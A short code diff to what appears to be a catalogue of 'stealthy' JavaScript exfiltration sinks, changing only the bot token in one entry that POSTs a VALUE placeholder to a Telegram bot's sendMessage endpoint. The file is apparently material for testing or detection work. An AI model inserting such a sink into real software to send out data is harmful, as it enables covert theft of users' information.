@@ -87,6 +87,6 @@ export const JAVASCRIPT_STEALTHY: readonly End[] = [
   {
     name: "chat-bot",
     needs: [],
-    code: `fetch("https://api.telegram.org/bot7310000001:AAE-notes-relay/sendMessage", {\n  method: "POST",\n  headers: { "content-type": "application/json" },\n  body: JSON.stringify({ chat_id: "-100200300", text: VALUE }),\n});`,
+    code: `fetch("https://api.telegram.org/bot7310000001:AAEr0e1aY-n0tes_inert_example_t0ken/sendMessage", {\n  method: "POST",\n  headers: { "content-type": "application/json" },\n  body: JSON.stringify({ chat_id: "-100200300", text: VALUE }),\n});`,
   },
 ];
